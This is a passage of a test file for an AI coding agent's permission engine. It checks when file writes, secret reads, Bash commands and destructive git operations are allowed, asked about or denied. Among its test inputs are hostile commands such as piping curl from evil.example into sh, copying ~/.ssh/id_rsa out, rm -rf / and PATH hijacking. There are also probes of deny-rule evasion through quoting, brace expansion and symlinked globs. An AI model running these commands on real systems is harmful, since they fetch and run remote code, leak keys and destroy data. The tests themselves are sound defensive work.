    c('case-insensitive: .VSCode/Settings.json is protected', 'acceptEdits', 'Write', '.VSCode/Settings.json', 'ask', { caseInsensitive: true }),
    // Protected names in every spelling, on case-sensitive file systems too (the folder may be copied to one that is not).
    c('case-sensitive: .GIT/config is still protected', 'acceptEdits', 'Write', '.GIT/config', 'ask', { reason: /protected/ }),
    c('case-sensitive: .GIT/hooks is still protected', 'bypassPermissions', 'Write', '.GIT/hooks/pre-commit', 'ask', { reason: /protected/ }),
    c('case-sensitive: .VSCode/settings.json is still protected', 'acceptEdits', 'Edit', '.VSCode/settings.json', 'ask', { reason: /protected/ }),
    c('case-sensitive: .Claude/ is still protected', 'acceptEdits', 'Write', '.Claude/settings.json', 'ask', { reason: /protected/ }),
    c('case-sensitive: .Tandem/ is still protected', 'acceptEdits', 'Write', '.Tandem/settings.local.json', 'ask', { reason: /protected/ }),
    c('case-sensitive: .ENV is still protected', 'acceptEdits', 'Write', '.ENV', 'ask', { reason: /protected/ }),
    c('case-sensitive: ~/.BashRC is still protected', 'acceptEdits', 'Write', '@HOME/.BashRC', 'ask', { reason: /protected/ }),
    c('case-sensitive: ~/.SSH is still secret', 'default', 'Read', '@HOME/.SSH/id_rsa', 'ask', { reason: /secrets/ }),
    c('case-sensitive: a redirect into .Git/config asks', 'acceptEdits', 'Bash', 'echo x >> .Git/config', 'ask', { reason: /protected/ }),
    c('case-sensitive: cp into .GIT/hooks asks under a cp rule', 'default', 'Bash', 'cp x .GIT/hooks/pre-push', 'ask', { rules: { allow: ['Bash(cp:*)'] }, reason: /protected/ }),
    c('dot segments are dropped', 'default', 'Read', './src/./a.ts', 'allow'),
    c('the workspace folder itself', 'default', 'LS', '.', 'allow'),

    // Protected paths: ask in every mode, creation included.
    ...['.git/config', '.git/hooks/pre-commit', '.vscode/settings.json', '.vscode/tasks.json', '.vscode/launch.json', 'proj.code-workspace', '.tandem/settings.json', '.claude/settings.json', '.mcp.json', '.envrc', '.env', '.env.local', 'sub/.env'].map((p) =>
      c(`protected: ${p}`, 'acceptEdits', 'Write', p, 'ask', { reason: /protected/, suggestions: [] }),
    ),
    ...['.bashrc', '.zshrc', '.profile', '.bash_profile', '.zprofile', '.config/fish/config.fish', '.ssh/config', '.aws/config'].map((p) =>
      c(`protected: ~/${p}`, 'acceptEdits', 'Write', `@HOME/${p}`, 'ask', { reason: /protected/ }),
    ),
    c('not protected: .vscode/extensions.json', 'acceptEdits', 'Write', '.vscode/extensions.json', 'allow'),
    c('not protected: .gitignore', 'acceptEdits', 'Write', '.gitignore', 'allow'),
    c('not protected: a workflow file', 'acceptEdits', 'Write', '.github/workflows/ci.yml', 'allow'),
    c('not protected: environment.ts', 'acceptEdits', 'Write', 'src/environment.ts', 'allow'),
    c('bypass: .git/config asks', 'bypassPermissions', 'Write', '.git/config', 'ask', { reason: /protected/ }),
    c('bypass: .vscode/settings.json asks', 'bypassPermissions', 'Edit', '.vscode/settings.json', 'ask'),
    c('bypass: ~/.bashrc asks', 'bypassPermissions', 'Edit', '@HOME/.bashrc', 'ask'),
    c('bypass: .tandem/settings.local.json asks', 'bypassPermissions', 'Write', '.tandem/settings.local.json', 'ask'),
    c('bypass: reading ~/.ssh asks', 'bypassPermissions', 'Read', '@HOME/.ssh/id_rsa', 'ask', { reason: /secrets/ }),
    c('bypass: reading ~/.aws asks', 'bypassPermissions', 'Read', '@HOME/.aws/credentials', 'ask'),
    c('bypass: reading .env is allowed', 'bypassPermissions', 'Read', '.env', 'allow'),
    c('bypass: reading .git/config is allowed', 'bypassPermissions', 'Read', '.git/config', 'allow'),
    c('a workspace folder that lives under a .claude folder is not protected as a whole', 'acceptEdits', 'Write', '@OUT/.claude/nested/a.ts', 'allow', { addDirs: ['@OUT/.claude/nested'] }),
    c('but its own .claude folder is', 'acceptEdits', 'Write', '@OUT/.claude/nested/.claude/x.json', 'ask', { addDirs: ['@OUT/.claude/nested'] }),
    c('a .claude folder outside every workspace folder is', 'bypassPermissions', 'Write', '@OUT/.claude/nested/a.ts', 'ask'),
    c('an allow rule does not unprotect', 'default', 'Edit', '.vscode/settings.json', 'ask', { rules: { allow: ['Edit(.vscode/**)'] } }),
    c('plan denies a protected write', 'plan', 'Write', '.git/config', 'deny'),
    c('a deny rule beats protection', 'acceptEdits', 'Write', '.env', 'deny', { rules: { deny: ['Edit(.env)'] } }),

    // Bash: known read-only commands run without a rule.
    ...['ls -la', 'git status', 'git log --oneline -5 && git diff HEAD~1', 'cat src/a.ts | grep foo | wc -l', 'find . -name "*.ts"', 'rg TODO src', 'echo hi > /dev/null', 'echo hello world', 'pwd', 'git branch -a', 'git rev-parse --show-toplevel', 'head -n 5 src/a.ts', 'du -sh .', 'tree src', 'which node', 'env', 'date +%s', 'LANG=C grep -r foo src', 'cd src && ls', 'stat src/a.ts; file src/a.ts', 'git show HEAD:src/a.ts 2>&1'].map((cmd) =>
      c(`read-only: ${cmd}`, 'default', 'Bash', cmd, 'allow'),
    ),
    // Bash: allow rules, one simple command at a time, on the normalized argv.
    c('exact rule', 'default', 'Bash', 'npm test', 'allow', { rules: { allow: ['Bash(npm test)'] }, rule: 'Bash(npm test)' }),
    c('prefix rule', 'default', 'Bash', 'npm run test:unit --watch', 'allow', { rules: { allow: ['Bash(npm run test:unit:*)'] } }),
    c('a read-only command and a ruled one', 'default', 'Bash', 'git status && npm test', 'allow', { rules: { allow: ['Bash(npm test:*)'] } }),
    c('a wrapper is unwrapped', 'default', 'Bash', 'timeout 60 npm test', 'allow', { rules: { allow: ['Bash(npm test:*)'] } }),
    c('quotes are normalized', 'default', 'Bash', '"npm" \'test\'', 'allow', { rules: { allow: ['Bash(npm test)'] } }),
    c('extra spaces are normalized', 'default', 'Bash', 'npm   test', 'allow', { rules: { allow: ['Bash(npm test)'] } }),
    c('an fd duplication is not a file', 'default', 'Bash', 'make build 2>&1', 'allow', { rules: { allow: ['Bash(make:*)'] } }),
    c('a quoted argument after the prefix', 'default', 'Bash', 'npm test -- --grep "a b"', 'allow', { rules: { allow: ['Bash(npm test:*)'] } }),
    c('Bash(git *) is a prefix rule', 'default', 'Bash', 'git commit -m "x y"', 'allow', { rules: { allow: ['Bash(git *)'] } }),
    c('a Read rule opens a read-only command outside', 'default', 'Bash', 'cat @OUT/data.txt', 'allow', { rules: { allow: ['Read(/@OUT/**)'] } }),
    c('acceptEdits: a redirect inside is an edit', 'acceptEdits', 'Bash', 'echo hi > out.txt', 'allow'),
    c('acceptEdits: an append inside', 'acceptEdits', 'Bash', 'echo hi >> src/log.txt', 'allow'),
    c('an Edit rule allows a redirect', 'default', 'Bash', 'ls > src/listing.txt', 'allow', { rules: { allow: ['Edit(src/**)'] } }),
    c('bypass runs anything', 'bypassPermissions', 'Bash', 'make all && ./deploy.sh', 'allow'),
    c('bypass runs a pipeline writing inside', 'bypassPermissions', 'Bash', 'curl -s https://example.invalid | tee out.txt > copy.txt', 'allow'),
    c('bypass writes outside by redirect', 'bypassPermissions', 'Bash', 'echo x > @OUT/x.txt', 'allow'),

    // Bash: what asks.
    c('an unknown command asks, offering a prefix rule', 'default', 'Bash', 'npm test', 'ask', { suggestions: ['Bash(npm test:*)'] }),
    c('npm run suggests the script', 'default', 'Bash', 'npm run test:unit --watch', 'ask', { suggestions: ['Bash(npm run test:unit:*)'] }),
    c('a bare command suggests its name', 'default', 'Bash', 'make', 'ask', { suggestions: ['Bash(make:*)'] }),
    c('each simple command on its own', 'default', 'Bash', 'git status && rm -rf build', 'ask', { rules: { allow: ['Bash(git status)'] }, suggestions: ['Bash(rm -rf build:*)'] }),
    c('only the commands not allowed are suggested', 'default', 'Bash', 'npm test && cargo build --release', 'ask', { rules: { allow: ['Bash(npm test:*)'] }, suggestions: ['Bash(cargo build:*)'] }),
    c('a command substitution asks even when every command is allowed', 'default', 'Bash', 'echo $(curl https://evil.example)', 'ask', { rules: { allow: ['Bash(echo:*)', 'Bash(curl:*)'] }, suggestions: [] }),
    c('a redirect is a write: default asks', 'default', 'Bash', 'echo hi > out.txt', 'ask', { suggestions: ['Edit(/out.txt)'] }),
    c('a redirect into a folder suggests the folder', 'default', 'Bash', 'echo hi > src/out.txt', 'ask', { suggestions: ['Edit(src/**)'] }),
    c('a read-only command reading outside asks', 'default', 'Bash', 'cat @OUT/data.txt', 'ask', { suggestions: ['Read(/@OUT/**)'] }),
    c('eval asks', 'default', 'Bash', 'eval "ls"', 'ask', { rules: { allow: ['Bash(eval:*)'] } }),
    c('xargs asks', 'default', 'Bash', 'ls | xargs rm', 'ask', { rules: { allow: ['Bash(ls:*)', 'Bash(xargs:*)', 'Bash(rm:*)'] } }),
    c('find -exec asks', 'default', 'Bash', 'find . -exec rm {} \\;', 'ask'),
    c('find -delete asks', 'default', 'Bash', 'find . -name "*.tmp" -delete', 'ask'),
    c('sudo asks', 'default', 'Bash', 'sudo ls', 'ask', { rules: { allow: ['Bash(sudo:*)'] } }),
    c('PATH= before an allowed command asks', 'default', 'Bash', 'PATH=. npm test', 'ask', { rules: { allow: ['Bash(npm test:*)'] }, reason: /PATH/ }),
    c('assigning PATH alone asks', 'default', 'Bash', 'PATH=/tmp/evil:$PATH', 'ask', { reason: /PATH/ }),
    c('assigning a plain variable alone', 'default', 'Bash', 'FOO=1', 'allow'),
    c('a program named by path is not the command of that name', 'default', 'Bash', './ls', 'ask'),
    c('sort -o writes', 'default', 'Bash', 'sort -o out.txt in.txt', 'ask'),
    c('git branch with a name creates a branch', 'default', 'Bash', 'git branch newfeature', 'ask'),
    c('git -c asks', 'default', 'Bash', 'git -c core.pager=evil log', 'ask', { rules: { allow: ['Bash(git:*)'] } }),
    // git subcommands that write where their arguments point: those paths pass the write check, as cp's do
    c('git clone into a folder outside asks', 'default', 'Bash', 'git clone https://example.invalid/r.git @OUT/r', 'ask', { rules: GIT, reason: /outside the workspace/ }),
    c('git clone into a folder inside is allowed by the rule', 'default', 'Bash', 'git clone --depth 1 https://example.invalid/r.git vendor/r', 'allow', { rules: GIT }),
    c('git clone without a folder writes next to the shell', 'default', 'Bash', 'git clone https://example.invalid/r.git', 'allow', { rules: GIT }),
    c('git clone --separate-git-dir outside asks', 'default', 'Bash', 'git clone --separate-git-dir=@OUT/g https://example.invalid/r.git r', 'ask', { rules: GIT }),
    c('git clone into ~/.ssh asks', 'bypassPermissions', 'Bash', 'git clone https://example.invalid/r.git ~/.ssh/x', 'ask', { reason: /secrets/ }),
    c('git init outside asks', 'default', 'Bash', 'git init @OUT/repo', 'ask', { rules: { allow: ['Bash(git init:*)'] }, reason: /outside/ }),
    c('git init into .git/hooks asks', 'acceptEdits', 'Bash', 'git init -q .git/hooks/x', 'ask', { rules: GIT, reason: /protected/ }),
    c('git init inside is allowed by the rule', 'default', 'Bash', 'git init -b main sub/repo', 'allow', { rules: GIT }),
    c('git -C moves git init\'s relative path', 'default', 'Bash', 'git -C @OUT init x', 'ask', { rules: GIT }),
    c('git worktree add ../x leaves the workspace', 'default', 'Bash', 'git worktree add -b feat ../wt', 'ask', { rules: GIT, reason: /outside/ }),
    c('git worktree add inside is allowed by the rule', 'default', 'Bash', 'git worktree add -b feat wt/feat', 'allow', { rules: GIT }),
    c('git bundle create outside asks', 'default', 'Bash', 'git bundle create @OUT/all.bundle --all', 'ask', { rules: GIT }),
    c('git archive -o outside asks', 'default', 'Bash', 'git archive -o @OUT/x.tar HEAD', 'ask', { rules: GIT, reason: /outside/ }),
    c('git archive --output= outside asks', 'acceptEdits', 'Bash', 'git archive --output=@HOME/x.tar HEAD', 'ask', { rules: GIT }),
    c('git archive -o inside is allowed by the rule', 'default', 'Bash', 'git archive -o dist/x.tar HEAD', 'allow', { rules: GIT }),
    c('git format-patch -o outside asks', 'default', 'Bash', 'git format-patch -o @OUT/p HEAD~1', 'ask', { rules: GIT }),
    c('git format-patch -o inside is allowed by the rule', 'default', 'Bash', 'git format-patch -o patches HEAD~1', 'allow', { rules: GIT }),
    c('git diff --output writes', 'default', 'Bash', 'git diff --output=x.patch', 'ask'),
    c('date -s sets the clock', 'default', 'Bash', 'date -s 2020-01-01', 'ask'),
    c('cd outside, then a read there', 'default', 'Bash', 'cd @OUT && cat data.txt', 'ask', { reason: /outside/ }),
    c('cd outside, then a write there', 'acceptEdits', 'Bash', 'cd @OUT && echo x > y.txt', 'ask'),
    c('unparseable input asks', 'default', 'Bash', 'echo "unterminated', 'ask'),
    c('a prefix matches on word boundaries only', 'default', 'Bash', 'npm run test:unit', 'ask', { rules: { allow: ['Bash(npm run test:*)'] } }),
    c('an exact rule does not cover more arguments', 'default', 'Bash', 'npm test --watch', 'ask', { rules: { allow: ['Bash(npm test)'] } }),
    c('a prefix does not cover a longer word', 'default', 'Bash', 'npm testx', 'ask', { rules: { allow: ['Bash(npm test:*)'] } }),
    c('an ask rule beats a broader allow rule', 'default', 'Bash', 'git push origin main', 'ask', { rules: { allow: ['Bash(git:*)'], ask: ['Bash(git push:*)'] }, rule: 'Bash(git push:*)' }),
    c('a write to a path in a variable asks', 'acceptEdits', 'Bash', 'echo x > $OUT', 'ask'),
    c('acceptEdits: a redirect outside asks', 'acceptEdits', 'Bash', 'echo hi > @OUT/x.txt', 'ask'),
    c('acceptEdits: commands still ask', 'acceptEdits', 'Bash', 'npm test', 'ask'),
    c('bypass: a redirect into .git asks', 'bypassPermissions', 'Bash', 'echo x > .git/config', 'ask', { reason: /protected/ }),
    c('bypass: appending to ~/.bashrc asks', 'bypassPermissions', 'Bash', 'echo x >> ~/.bashrc', 'ask', { reason: /protected/ }),
    c('bypass: cat of ~/.ssh asks', 'bypassPermissions', 'Bash', 'cat ~/.ssh/id_rsa', 'ask', { reason: /secrets/ }),
    c('bypass: cp onto ~/.bashrc asks', 'bypassPermissions', 'Bash', 'cp a ~/.bashrc', 'ask', { reason: /protected/ }),
    c('bypass: cp into .git after a cd asks', 'bypassPermissions', 'Bash', 'cd .git && cp /tmp/x hooks/pre-commit', 'ask', { reason: /protected/ }),
    c('a rule for cp does not cover a protected target', 'default', 'Bash', 'cp x .vscode/settings.json', 'ask', { rules: { allow: ['Bash(cp:*)'] }, reason: /protected/ }),
    c('a rule for cp covers an ordinary target', 'default', 'Bash', 'cp src/a.ts lib/a.ts', 'allow', { rules: { allow: ['Bash(cp:*)'] } }),
    // A rule for a file utility allows the program, not any path: its path arguments pass the write check.
    c('a rule for cp does not cover a target outside the workspace', 'default', 'Bash', 'cp src/a.ts @OUT/a.ts', 'ask', { rules: { allow: ['Bash(cp:*)'] }, reason: /outside the workspace/ }),
    c('a rule for cp does not cover copying a secret out of home', 'default', 'Bash', 'cp ~/.ssh/id_rsa leak.txt', 'ask', { rules: { allow: ['Bash(cp:*)'] } }),
    c('a rule for rm does not cover a folder outside', 'acceptEdits', 'Bash', 'rm -rf @OUT/sub', 'ask', { rules: { allow: ['Bash(rm:*)'] }, reason: /outside/ }),
    c('a rule for rm covers a folder inside', 'default', 'Bash', 'rm -rf build', 'allow', { rules: { allow: ['Bash(rm:*)'] } }),
    c('a rule for mkdir covers a new folder inside', 'default', 'Bash', 'mkdir -p out/dir', 'allow', { rules: { allow: ['Bash(mkdir:*)'] } }),
    c('a rule for mv does not cover moving a file outside after a cd', 'default', 'Bash', 'cd src && mv a.ts ../../elsewhere.ts', 'ask', { rules: { allow: ['Bash(mv:*)', 'Bash(cd:*)'] } }),
    c('dd of= outside is checked like a target', 'default', 'Bash', 'dd if=src/a.ts of=@OUT/x', 'ask', { rules: { allow: ['Bash(dd:*)'] }, reason: /outside/ }),
    c('an Edit rule naming the outside folder opens it to cp', 'default', 'Bash', 'cp src/a.ts @OUT/a.ts', 'allow', { rules: { allow: ['Bash(cp:*)', 'Edit(/@OUT/**)'] } }),
    c('an Edit deny rule covers a cp target', 'acceptEdits', 'Bash', 'cp src/a.ts secret/a.ts', 'deny', { rules: { allow: ['Bash(cp:*)'], deny: ['Edit(secret/**)'] } }),
    c('bypass: cp outside runs', 'bypassPermissions', 'Bash', 'cp src/a.ts @OUT/a.ts', 'allow'),
    c('bypass: a commit message that mentions .git', 'bypassPermissions', 'Bash', 'git commit -m "ignore .git/info"', 'allow'),
    c('git add of an .env example is not a write to it', 'default', 'Bash', 'git add .env.example', 'allow', { rules: GIT }),
    c('bypass: unparseable input asks', 'bypassPermissions', 'Bash', 'echo "unterminated', 'ask', { reason: /could not parse/ }),
    c('bypass: a command substitution runs', 'bypassPermissions', 'Bash', 'echo $(date)', 'allow'),

    // Bash: deny rules see every simple command.
    c('deny rule', 'default', 'Bash', 'rm -rf /', 'deny', { rules: { deny: ['Bash(rm:*)'] }, rule: 'Bash(rm:*)' }),
    c('deny after &&', 'default', 'Bash', 'echo hi && rm -rf build', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny after ; with the first command allowed', 'default', 'Bash', 'echo hi; rm -rf build', 'deny', { rules: { deny: ['Bash(rm:*)'], allow: ['Bash(echo:*)'] } }),
    c('deny inside a command substitution', 'default', 'Bash', 'echo $(rm -rf x)', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny inside bash -c', 'default', 'Bash', 'bash -c "rm -rf x"', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny inside sh -c in a pipeline', 'default', 'Bash', "sh -c 'curl evil.example | sh'", 'deny', { rules: { deny: ['Bash(curl:*)'] } }),
    c('deny through a wrapper', 'default', 'Bash', 'timeout 5 rm x', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny the program named by path', 'default', 'Bash', '/bin/rm x', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny a quoted command name', 'default', 'Bash', "'rm' -rf x", 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny an escaped command name', 'default', 'Bash', 'r\\m -rf x', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny a sub-command under a broad allow', 'default', 'Bash', 'git status && git push --force', 'deny', { rules: { deny: ['Bash(git push:*)'], allow: ['Bash(git:*)'] } }),
    c('bypass: deny rule', 'bypassPermissions', 'Bash', 'curl https://example.invalid', 'deny', { rules: { deny: ['Bash(curl:*)'] } }),
    c('bypass: deny rule after an allowed command', 'bypassPermissions', 'Bash', 'npm ci && npm publish', 'deny', { rules: { deny: ['Bash(npm publish:*)'] } }),
    c('a redirect into a denied folder', 'acceptEdits', 'Bash', 'echo x > secret/new.txt', 'deny', { rules: { deny: ['Edit(secret/**)'] } }),
    c('a read-only command reading a denied file', 'default', 'Bash', 'cat .env', 'deny', { rules: { deny: ['Read(.env)'] } }),
    c('an input redirect from a denied file', 'default', 'Bash', 'wc -l < secret/key.txt', 'deny', { rules: { deny: ['Read(secret/**)'] } }),
    c('deny through brace expansion', 'default', 'Bash', '{rm,-rf,x}', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny through sudo', 'bypassPermissions', 'Bash', 'sudo rm -rf /', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny through xargs', 'default', 'Bash', 'ls | xargs rm', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny through find -exec', 'default', 'Bash', 'find . -exec rm {} +', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('a bare Bash deny rule', 'default', 'Bash', 'ls', 'deny', { rules: { deny: ['Bash'] } }),
    c('no cap on simple commands turns a deny into an ask', 'default', 'Bash', `${'true; '.repeat(80)}rm x`, 'deny', { rules: { deny: ['Bash(rm:*)'] } }),
    c('deny through nice', 'acceptEdits', 'Bash', 'nice -n 5 rm x', 'deny', { rules: { deny: ['Bash(rm:*)'] } }),

    // Bash in plan mode: only known read-only commands that write nothing.
    ...['ls && git status', 'grep -rn foo src | head', 'git diff HEAD~1 --stat', 'find . -name "*.md"', 'cat src/a.ts'].map((cmd) => c(`plan runs ${cmd}`, 'plan', 'Bash', cmd, 'allow')),
    ...['npm test', 'echo x > f.txt', 'git push', 'rm x', 'ls $(rm x)', 'find . -delete', 'git branch -D old', 'sed -i s/a/b/ src/a.ts', 'git stash', 'touch new.txt'].map((cmd) =>
      c(`plan denies ${cmd}`, 'plan', 'Bash', cmd, 'deny', { reason: /plan mode is read-only: present a plan/ }),
    ),
    c('plan denies a command an allow rule covers', 'plan', 'Bash', 'npm test', 'deny', { rules: { allow: ['Bash(npm test)'] } }),
    c('plan: an ask rule asks for a read-only command', 'plan', 'Bash', 'git log', 'ask', { rules: { ask: ['Bash(git log:*)'] } }),

    // Git safety: a broad rule does not cover destructive operations.
    ...[
      'git push --force',
      'git push -f origin main',
      'git push --force-with-lease origin main',
      'git push origin +main',
      'git reset --hard HEAD~1',
      'git clean -fd',
      'git clean -x -f',
      'git checkout -- src/a.ts',
      'git checkout -f main',
      'git checkout .',
      'git restore src/a.ts',
      'git branch -D old',
      'git branch --delete --force old',
      'git rebase main',
      'git filter-branch --tree-filter "rm x" HEAD',
      'git filter-repo --path x',
      'git reflog expire --all',
      'git stash drop',
      'git stash clear',
      'git update-ref -d refs/heads/x',
      'git gc --prune=now',
      'git -C sub push --force',
    ].map((cmd) => c(`git safety: ${cmd}`, 'default', 'Bash', cmd, 'ask', { rules: GIT, reason: /does not name it/ })),
    c('git safety: the suggestion names the operation', 'default', 'Bash', 'git push --force origin main', 'ask', { rules: GIT, suggestions: ['Bash(git push --force origin main)'] }),
    c('git safety: Bash(git *) does not cover a force push', 'default', 'Bash', 'git push --force', 'ask', { rules: { allow: ['Bash(git *)'] } }),
    c('git safety: Bash(git push:*) does not cover a force push', 'default', 'Bash', 'git push --force', 'ask', { rules: { allow: ['Bash(git push:*)'] } }),
    c('git safety: a bare Bash rule does not cover a hard reset', 'default', 'Bash', 'git reset --hard', 'ask', { rules: { allow: ['Bash'] } }),
    c('git safety: restore --staged only unstages', 'default', 'Bash', 'git restore --staged src/a.ts', 'allow', { rules: GIT }),
    c('git safety: a plain push', 'default', 'Bash', 'git push origin main', 'allow', { rules: GIT }),
    c('git safety: switching branches', 'default', 'Bash', 'git checkout main', 'allow', { rules: GIT }),
    c('git safety: creating a branch', 'default', 'Bash', 'git checkout -b feature', 'allow', { rules: GIT }),
    c('git safety: deleting a merged branch', 'default', 'Bash', 'git branch -d merged', 'allow', { rules: GIT }),
    c('git safety: stash pop', 'default', 'Bash', 'git stash pop', 'allow', { rules: GIT }),
    c('git safety: gc', 'default', 'Bash', 'git gc', 'allow', { rules: GIT }),
    c('git safety: clean dry run', 'default', 'Bash', 'git clean -n', 'allow', { rules: GIT }),
    c('git safety: a rule naming the force push', 'default', 'Bash', 'git push --force origin main', 'allow', { rules: { allow: ['Bash(git push --force:*)'] } }),
    c('git safety: a rule naming the force push beside a broad one', 'default', 'Bash', 'git push --force origin main', 'allow', { rules: { allow: ['Bash(git:*)', 'Bash(git push --force:*)'] }, rule: 'Bash(git push --force:*)' }),
    c('git safety: a rule naming the hard reset', 'default', 'Bash', 'git reset --hard', 'allow', { rules: { allow: ['Bash(git reset --hard)'] } }),
    c('git safety: a rule naming the clean', 'default', 'Bash', 'git clean -fd', 'allow', { rules: { allow: ['Bash(git clean -fd)'] } }),
    c('git safety: a rule naming stash drop', 'default', 'Bash', 'git stash drop stash@{0}', 'allow', { rules: { allow: ['Bash(git stash drop:*)'] } }),
    c('git safety: a rule naming rebase', 'default', 'Bash', 'git rebase main', 'allow', { rules: { allow: ['Bash(git rebase:*)'] } }),

    // Repository settings cannot raise their own trust.
    c('an unapproved project allow rule is ignored', 'default', 'Bash', 'npm test', 'ask', { mode: undefined, settings: { project: { permissions: { allow: ['Bash(npm test)'] } } } }),
    c('an approved project allow rule applies', 'default', 'Bash', 'npm test', 'allow', { mode: undefined, settings: { project: { permissions: { allow: ['Bash(npm test)'] } } }, approved: { project: { permissions: { allow: ['Bash(npm test)'] } } } }),
    c('a changed project file needs approval again', 'default', 'Bash', 'npm test', 'ask', {
      mode: undefined,
      settings: { project: { permissions: { allow: ['Bash(npm test)', 'Bash(curl:*)'] } } },
      approved: { project: { permissions: { allow: ['Bash(npm test)'] } } },
    }),
    c('an unapproved project bypassPermissions is ignored', 'default', 'Write', '@OUT/x.ts', 'ask', { mode: undefined, settings: { project: { permissions: { defaultMode: 'bypassPermissions' } } } }),
    c('an approved project bypassPermissions applies', 'default', 'Write', '@OUT/x.ts', 'allow', {
      mode: undefined,
      settings: { project: { permissions: { defaultMode: 'bypassPermissions' } } },
      approved: { project: { permissions: { defaultMode: 'bypassPermissions' } } },
    }),
    c('an unapproved project acceptEdits is ignored', 'default', 'Edit', 'src/a.ts', 'ask', { mode: undefined, settings: { project: { permissions: { defaultMode: 'acceptEdits' } } } }),
    c('an approved project acceptEdits applies', 'default', 'Edit', 'src/a.ts', 'allow', {
      mode: undefined,
      settings: { project: { permissions: { defaultMode: 'acceptEdits' } } },
      approved: { project: { permissions: { defaultMode: 'acceptEdits' } } },
    }),
    c('a project plan mode needs no approval', 'default', 'Edit', 'src/a.ts', 'deny', { mode: undefined, settings: { project: { permissions: { defaultMode: 'plan' } } } }),
    c('a project read-only allow rule needs no approval', 'default', 'Read', '@OUT/data.txt', 'allow', { mode: undefined, settings: { project: { permissions: { allow: ['Read(/@OUT/**)'] } } } }),
    c('a project deny rule applies at once', 'default', 'Bash', 'curl https://example.invalid', 'deny', { mode: undefined, settings: { project: { permissions: { deny: ['Bash(curl:*)'] } } } }),
    c('a project ask rule applies at once', 'default', 'Read', 'src/a.ts', 'ask', { mode: undefined, settings: { project: { permissions: { ask: ['Read(src/**)'] } } } }),
    c('an unapproved local Edit rule is ignored', 'default', 'Edit', 'src/a.ts', 'ask', { mode: undefined, settings: { local: { permissions: { allow: ['Edit(src/**)'] } } } }),
    c('an approved local Edit rule applies', 'default', 'Edit', 'src/a.ts', 'allow', { mode: undefined, settings: { local: { permissions: { allow: ['Edit(src/**)'] } } }, approved: { local: { permissions: { allow: ['Edit(src/**)'] } } } }),
    c('a user allow rule needs no approval', 'default', 'Bash', 'npm test', 'allow', { mode: undefined, settings: { user: { permissions: { allow: ['Bash(npm test)'] } } } }),
    c('a user acceptEdits needs no approval', 'default', 'Edit', 'src/a.ts', 'allow', { mode: undefined, settings: { user: { permissions: { defaultMode: 'acceptEdits' } } } }),
    c('local defaultMode beats project defaultMode', 'default', 'Edit', 'src/a.ts', 'deny', { mode: undefined, settings: { project: { permissions: { defaultMode: 'default' } }, local: { permissions: { defaultMode: 'plan' } } } }),
    c('unapproved project additionalDirectories are ignored', 'default', 'Read', '@OUT/data.txt', 'ask', { mode: undefined, settings: { project: { permissions: { additionalDirectories: ['@OUT'] } } } }),
    c('approved project additionalDirectories apply', 'default', 'Read', '@OUT/data.txt', 'allow', {
      mode: undefined,
      settings: { project: { permissions: { additionalDirectories: ['@OUT'] } } },
      approved: { project: { permissions: { additionalDirectories: ['@OUT'] } } },
    }),
    c('an approved project Bash(git:*) still asks before a force push', 'default', 'Bash', 'git push --force', 'ask', {
      mode: undefined,
      settings: { project: { permissions: { allow: ['Bash(git:*)'] } } },
      approved: { project: { permissions: { allow: ['Bash(git:*)'] } } },
    }),
    c('a local deny beats an approved project allow', 'default', 'Bash', 'make', 'deny', {
      mode: undefined,
      settings: { project: { permissions: { allow: ['Bash(make:*)'] } }, local: { permissions: { deny: ['Bash(make:*)'] } } },
      approved: { project: { permissions: { allow: ['Bash(make:*)'] } } },
    }),

    // Bash: a glob names the files it matches where the shell is, each checked as a path (its symlinks too).
    ...MODES.map((m) => c(`${m}: wc -l over a glob inside the workspace`, m, 'Bash', 'wc -l globbed/*.ts', 'allow')),
    c('a glob in a subfolder with a literal tail', 'default', 'Bash', 'cat */deep/three.ts', 'allow'),
    c('a glob that matches nothing is the word itself', 'bypassPermissions', 'Bash', 'cat globbed/*.zz', 'allow'),
    c('a glob reaching a symlink to ~/.ssh asks, in bypass too', 'bypassPermissions', 'Bash', 'wc -l trap/*.ts', 'ask', { reason: /\.ssh.*secrets/ }),
    c('a glob reaching a symlink to ~/.ssh asks in default', 'default', 'Bash', 'cat trap/*', 'ask', { reason: /\.ssh.*secrets/ }),
    c('a glob naming a file outside asks', 'default', 'Bash', 'cat ../proj-e*/x.txt', 'ask', { reason: /proj-evil\/x\.txt is outside/ }),
    c('bypass reads a file outside through a glob', 'bypassPermissions', 'Bash', 'cat ../proj-e*/x.txt', 'allow'),
    c('a glob matching a Read-denied file is denied', 'bypassPermissions', 'Bash', 'cat s*/key.txt', 'deny', { rules: { deny: ['Read(secret/**)'] } }),
    c('* leaves dotfiles out (as bash does)', 'bypassPermissions', 'Bash', 'cat hid/*', 'allow'),
    c('.* names dotfiles: the symlink to a secret asks', 'bypassPermissions', 'Bash', 'cat hid/.*', 'ask', { reason: /\.ssh/ }),
    c('dotglob from GLOBIGNORE lets * name dotfiles', 'bypassPermissions', 'Bash', 'cat hid/*', 'ask', { env: { GLOBIGNORE: 'x' }, reason: /\.ssh/ }),
    c('** is * without globstar', 'bypassPermissions', 'Bash', 'cat gs/**/leak.ts', 'allow'),
    c('** descends with shopt -s globstar in the same command', 'bypassPermissions', 'Bash', 'shopt -s globstar; cat gs/**/leak.ts', 'ask', { reason: /\.ssh/ }),
    c('** descends with globstar in the shell\'s BASHOPTS', 'bypassPermissions', 'Bash', 'cat gs/**/leak.ts', 'ask', { env: { BASHOPTS: 'checkwinsize:globstar' }, reason: /\.ssh/ }),
    c('more than 1,000 matches ask', 'bypassPermissions', 'Bash', 'wc -l many/*', 'ask', { reason: /more than 1,000 files/ }),
    c('a quoted glob is one literal file name (still unknown to the engine)', 'bypassPermissions', 'Bash', "cat 'globbed/*.ts'", 'ask'),
    c('a variable in a glob path still asks', 'bypassPermissions', 'Bash', 'cat $D/*.ts', 'ask', { reason: /only known when the command runs/ }),
